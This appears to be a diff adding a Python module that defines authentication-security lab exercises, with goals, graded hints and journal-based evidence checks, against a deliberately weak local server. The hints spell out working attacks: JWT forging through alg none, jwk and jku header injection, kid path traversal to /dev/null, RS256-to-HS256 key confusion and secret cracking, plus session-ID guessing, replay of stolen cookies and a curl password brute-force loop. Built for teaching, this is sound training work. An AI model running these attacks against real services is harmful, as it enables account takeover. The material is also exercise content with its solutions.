@@ -1,0 +1,192 @@
+"""The lab's exercises as data: for each lab, the goal, the tools, graded hints, and the evidence
+in the server's journal that the lab's weakness (and nothing else) let the request through.
+
+Hints are read one at a time, each a step closer; `{url}` is the run's server. A hint that
+states a fact carries a [^source] key. The full attack is `authcli lab NAME` (--solution).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Any, Callable
+
+from authcli.events import KeyChosen, SessionLookedUp, TokenChecked
+from authcli.server.journal import RequestRecord
+
+LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
+         "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
+SEND = "Send it: curl -s -H \"Authorization: Bearer $FORGED\" {url}/admin"
+SUB = "--set sub='\"1\"'"  # sub is a StringOrURI: the JSON string "1", never the number 1
+# The server's public JWK written as PEM (SubjectPublicKeyInfo, final newline kept), with the
+# PyJWT and cryptography that authcli installs.
+PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives import serialization as s; "
+       "k=jwt.algorithms.RSAAlgorithm.from_jwk(json.load(sys.stdin)[\"keys\"][0]); "
+       "sys.stdout.buffer.write(k.public_bytes(s.Encoding.PEM, s.PublicFormat.SubjectPublicKeyInfo))'")
+DECODE = ("Log in as yourself (" + LOGIN + ") and decode the token it answers: authcli decode $TOKEN "
+          "(without a key it shows what the token claims, unverified).")
+
+
+@dataclass(frozen=True)
+class Exercise:
+    """One lab as an exercise: what to do, what to use, and how the journal tells it was done."""
+
+    name: str
+    goal: str
+    tools: tuple[str, ...]
+    hints: tuple[str, ...]
+    evidence: Callable[[RequestRecord, Any], bool]  # the lab's weakness let this /admin request through (run: the Practice)
+    leaked: str = ""                           # what the student is handed, {value} in its words
+    guessing: bool = False                     # user 1's password is in authcli's list: the story is the guesses
+
+
+def checked(record: RequestRecord) -> TokenChecked | None:
+    return next((e for e in record.events if isinstance(e, TokenChecked) and e.payload is not None), None)
+
+
+def _skipped(name: str) -> Callable[[RequestRecord], bool]:
+    """The weak server marked check `name` as not done (ok None) and still answered."""
+    def evidence(record: RequestRecord, run: Any = None) -> bool:
+        event = checked(record)
+        return event is not None and any(c.name == name and c.ok is None for c in event.checks)
+    return evidence
+
+
+def _alg_none(record: RequestRecord, run: Any = None) -> bool:
+    event = checked(record)
+    alg = (event.header or {}).get("alg") if event is not None else None
+    return isinstance(alg, str) and alg.lower() == "none"
+
+
+def _foreign_key(record: RequestRecord, run: Any = None) -> bool:
+    """The weak server verified with a key the token led it to, not its own (KeyChosen)."""
+    return any(isinstance(e, KeyChosen) for e in record.events)
+
+
+def _own_key(record: RequestRecord, run: Any = None) -> bool:
+    """Every check passed with the server's own (guessable) secret. User 1 cannot log in (its
+    password is random each run, and the run refuses user 1's login tokens by jti), so a token
+    for user 1 that passes was signed by someone who found the secret."""
+    event = checked(record)
+    return event is not None and all(c.ok is not False for c in event.checks) and not _foreign_key(record, run)
+
+
+def _session_of_user_1(record: RequestRecord, run: Any = None) -> bool:
+    """The weak server found user 1's session record under the cookie sent. User 1's password
+    is random each run and only the exercise's own user 1 logs in, never asking for /admin."""
+    return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
+               for e in record.events)
+
+
+def _guessed(record: RequestRecord, run: Any) -> bool:
+    """User 1's session, from a login that came after more failed guesses for user 1 than the
+    hardened server allows (a password known beforehand, from another run, needs none)."""
+    from authcli.server.policy import LoginLimits
+
+    return any(isinstance(e, SessionLookedUp) and e.record is not None and e.record.get("userId") == 1
+               and run.failures_before(e.session_id) >= LoginLimits().per_account for e in record.events)
+
+
+JWT_TOOLS = ("curl", "authcli decode", "authcli tamper")
+
+EXERCISES: dict[str, Exercise] = {e.name: e for e in [
+    Exercise("no-verify", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " The claim that says who you are is sub; /admin wants user 1.",
+        "This server reads the claims without checking the signature: a token whose payload was "
+        "changed after signing is still believed [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} changes sub and keeps the old signature; sub stays a string, "
+        "as RFC 7519 asks [^rfc7519-4.1].",
+        SEND), _skipped("signature")),
+    Exercise("alg-none", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " Its header's alg says how it was signed.",
+        "A JWT may be unsecured: alg none and an empty signature [^rfc7518-3.6]. A verifier that lets "
+        "the token choose the algorithm accepts one [^rfc8725-3.1].",
+        f"authcli tamper $TOKEN {SUB} --alg none writes alg none and drops the signature, keeping the "
+        "other claims (exp, aud) as they were.",
+        SEND), _alg_none),
+    Exercise("weak-secret", "Get this run's flag from GET /admin, which answers only user 1.",
+             (*JWT_TOOLS, "authcli crack"), (
+        DECODE + " It is HS256: one secret both signs and checks it.",
+        "An HMAC signature can be checked against guessed secrets offline, from one token, without "
+        "asking the server; a secret a person chose is in someone's wordlist [^rfc8725-3.5].",
+        "authcli crack $TOKEN tries a wordlist of secrets people really use.",
+        f"authcli tamper $TOKEN {SUB} --secret THE_SECRET signs a token for user 1 with it. " + SEND),
+        _own_key),
+    Exercise("jwk-header", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " It is RS256: signed with the server's private key, which you do not have.",
+        "A server that takes the verifying key from the token's own jwk header accepts a token signed "
+        "with any key the attacker made [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} --embed-jwk makes a key pair, signs with its private half and "
+        "puts the public half in the header's jwk.",
+        SEND), _foreign_key),
+    Exercise("jku-header", "Get this run's flag from GET /admin, which answers only user 1.",
+             (*JWT_TOOLS, "python3 -m http.server"), (
+        DECODE + " It is RS256: signed with the server's private key, which you do not have.",
+        "A jku header names a URL that holds a JWK Set [^rfc7517-5]; a server that fetches keys from "
+        "whatever URL the token names verifies with the attacker's key [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} --jku http://127.0.0.1:8000/jwks.json signs with a new key and "
+        "writes its key set to jwks.json. This lab server fetches from loopback only.",
+        "In that folder, serve it: python3 -m http.server 8000 --bind 127.0.0.1. " + SEND), _foreign_key),
+    Exercise("kid-path", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " Its header's kid names the key the server should use.",
+        "kid is only a hint for choosing a key [^rfc7515-4.1.4]; this server joins it to its key "
+        "folder and reads that file as the HMAC secret. /dev/null is on every Linux machine and reads "
+        "as zero bytes [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} --header kid=../../../../../../../../dev/null --secret '' "
+        "signs with the empty key (extra ../ are harmless: .. at / stays at /).",
+        SEND), _foreign_key),
+    Exercise("alg-confusion", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " It is RS256, and the server publishes its public key at {url}/.well-known/jwks.json: "
+        "anyone may have it [^rfc7517-5].",
+        "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the key bytes "
+        "it holds, here the public key's PEM, which you have too [^rfc8725-3.1].",
+        "Write the key as PEM: curl -s {url}/.well-known/jwks.json | " + PEM + " > public.pem",
+        f"authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem signs with those exact "
+        "bytes (final newline kept). " + SEND), _foreign_key),
+    Exercise("no-exp", "Get this run's flag from GET /admin with the token of user 1's found in an "
+             "old log file (shown below).", ("curl", "authcli decode"), (
+        "Decode the old token: authcli decode $OLD. Look at exp, and at today's date.",
+        "exp is the time after which a token must not be accepted [^rfc7519-4.1.4]; this server "
+        "never looks at it.",
+        "Send it as it is: curl -s -H \"Authorization: Bearer $OLD\" {url}/admin"),
+        _skipped("exp"), leaked="Found in an old log file, user 1's token: {value}"),
+    Exercise("predictable-id", "Get this run's flag from GET /admin, which answers only user 1. User 1 "
+             "logged in when this exercise started.", ("curl",), (
+        "Log in as yourself with curl -i, which shows the answer's headers: " + LOGIN.replace("-s", "-si")
+        + ". Your session ID is in Set-Cookie.",
+        "A session ID is all that says who you are, so it must be unguessable: OWASP asks for at least "
+        "64 bits of entropy from a secure random generator [^owasp-session-entropy]. Is yours random?",
+        "User 1 logged in when the exercise started, before anyone else: their ID is the first this "
+        "server gave out, one less than the ID of your first login.",
+        "Send it: curl -s -H 'Cookie: sessionId=THEIR_ID' {url}/admin"), _session_of_user_1),
+    Exercise("logout-cookie-only", "Get this run's flag from GET /admin, which answers only user 1, with "
+             "user 1's cookie, copied before user 1 logged out (shown below).", ("curl",), (
+        "User 1 logged out: the answer to POST /logout cleared the cookie in their browser (Max-Age=0). "
+        "Your copy is not in their browser.",
+        "Logging out must end the session on the server, not only remove the cookie "
+        "[^owasp-session-expiration].",
+        "Send the copy: curl -s -H 'Cookie: sessionId=THE_COPY' {url}/admin"),
+        _session_of_user_1, leaked="Copied from a shared computer before user 1 logged out: sessionId={value}"),
+    Exercise("no-server-expiry", "Get this run's flag from GET /admin, which answers only user 1, with "
+             "user 1's cookie, copied before its Max-Age ran out (shown below).", ("curl",), (
+        "The cookie's Max-Age told user 1's browser when to delete it [^mdn-set-cookie]: after 1 s. A "
+        "copy made elsewhere is not bound by that.",
+        "A server must end a session at its own deadline, whatever the client still sends "
+        "[^owasp-session-expiration].",
+        "Send the copy: curl -s -H 'Cookie: sessionId=THE_COPY' {url}/admin"),
+        _session_of_user_1, leaked="Copied from user 1's browser; its Max-Age (1 s) has passed: sessionId={value}"),
+    Exercise("no-rate-limit", "Get this run's flag from GET /admin, which answers only user 1 (a@b.com), by "
+             "guessing user 1's password: it is one of the secrets in the list below.", ("curl", "a shell loop"), (
+        "Log in as a@b.com with a wrong password a few times: does the server ever stop answering?",
+        "An attacker with a list of common passwords tries them one after another; a server must "
+        "limit failed logins (without letting the attacker lock the real user out) [^owasp-account-lockout].",
+        "Try each line in turn and print the one that works: while read -r p; do curl -s -o /dev/null "
+        "-w \"%{{http_code}} $p\\n\" -X POST {url}/login -H 'Content-Type: application/json' -d "
+        "\"{{\\\"email\\\":\\\"a@b.com\\\",\\\"password\\\":\\\"$p\\\"}}\"; done < LIST | grep ^200",
+        "Log in with it keeping the cookie (curl -c jar.txt ...), then: curl -s -b jar.txt {url}/admin"),
+        _guessed, leaked="User 1's password is one of the secrets in this list (one a line): {value}", guessing=True),
+]}
+
+
+def hint(exercise: Exercise, number: int, url: str = "http://127.0.0.1:PORT") -> str:
+    """Hint `number` (from 1), with the run's URL in place of {url}."""
+    return exercise.hints[number - 1].format(url=url)
